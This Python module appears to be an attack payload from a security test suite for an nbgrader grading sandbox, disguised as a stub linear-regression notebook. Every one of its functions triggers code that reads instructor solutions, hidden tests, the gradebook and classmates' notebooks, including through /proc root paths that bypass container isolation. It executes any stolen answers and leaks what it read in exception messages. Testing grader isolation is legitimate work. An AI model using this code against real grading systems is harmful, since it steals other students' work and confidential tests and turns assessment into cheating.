"""A stub notebook whose functions, when called, read the course (the source notebooks with the answers and
hidden tests, the gradebook, the classmates' notebooks, other students' staged copies) and the checkout's
solutions, run whatever answers they find, and put what they read in an exception message."""
MODULE = "ex2_linear_regression"
CLASS = "notebook"
MODES = ("nbgrader",)
BASE = "stubs"
LEAKS = ("BEGIN SOLUTION", "BEGIN HIDDEN TESTS", "classmate-token-")

_ATK_LOOT = {}  # assignments that call nothing: kept by the notebook channel


def _atk_loot():
    """(functions defined by any answer found, snippets of what was read), computed once."""
    import glob
    import json
    if _ATK_LOOT:
        return _ATK_LOOT["functions"], _ATK_LOOT["snippets"]
    course = _ATTACK.get("course", "")
    solution = f"{_ATTACK['solutions']}/ex2_linear_regression.py"
    paths = [f"{course}/source/backprop/ex2_linear_regression.ipynb", f"{course}/gradebook.db", solution]
    paths += glob.glob(f"{course}/source/backprop/*.ipynb")[:3]
    for folder in _ATTACK["classmates"]:
        paths += glob.glob(folder + "/*.ipynb")[:3]
    paths += glob.glob("/tmp/nbgrader-grade-*/*.py")[:10] + glob.glob("/tmp/*/nbgrader-grade-*/*.py")[:10]
    for pid in [p for p, _ in _atk_ancestors()] + [1]:
        paths.append(f"/proc/{pid}/root{solution}")
        paths.append(f"/proc/{pid}/root{course}/source/backprop/ex2_linear_regression.ipynb")
    functions, snippets, sources = {}, [], []
    for path in paths[:60]:
        data = _atk_read(path, 4 << 20).decode(errors="replace")
        if not data:
            continue
        for token in ("BEGIN SOLUTION", "BEGIN HIDDEN TESTS", "classmate-token"):
            at = data.find(token)
            if at >= 0:
                snippets.append(f"{path}: {data[max(0, at - 30):at + 90]!r}")
        if path.endswith(".ipynb"):
            try:
                cells = json.loads(data)["cells"]
                sources += ["".join(c["source"]) if isinstance(c["source"], list) else c["source"]
                            for c in cells if c.get("cell_type") == "code"]
            except (ValueError, KeyError, TypeError):
                pass
        elif path.endswith(".py"):
            sources.append(data)
    for source in sources[:200]:
        namespace = dict(globals())
        try:
            exec(compile(source, "stolen", "exec"), namespace)
        except BaseException:
            continue
        for name in ("synthetic_data", "data_iter", "linreg", "squared_loss", "sgd", "train"):
            fn = namespace.get(name)
            if callable(fn) and getattr(fn, "__code__", None) is not None and fn.__code__.co_filename == "stolen":
                functions[name] = fn
    _ATK_LOOT.update(functions=functions, snippets=snippets[:12])
    return functions, snippets[:12]


def _atk_use(name, *args):
    functions, snippets = _atk_loot()
    if name in functions:
        return functions[name](*args)
    if snippets:
        raise RuntimeError(f"{_ATTACK['marker']}:WIN:read {snippets}")
    raise NotImplementedError(name)


def synthetic_data(w, b, num_examples):
    return _atk_use("synthetic_data", w, b, num_examples)


def data_iter(batch_size, features, labels):
    return _atk_use("data_iter", batch_size, features, labels)


def linreg(X, w, b):
    functions, snippets = _atk_loot()
    if snippets:
        raise RuntimeError(f"read {snippets}")
    return _atk_use("linreg", X, w, b)


def squared_loss(y_hat, y):
    return _atk_use("squared_loss", y_hat, y)


def sgd(params, lr, batch_size):
    return _atk_use("sgd", params, lr, batch_size)


def train(features, labels, lr=0.03, num_epochs=3, batch_size=10):
    return _atk_use("train", features, labels, lr, num_epochs, batch_size)
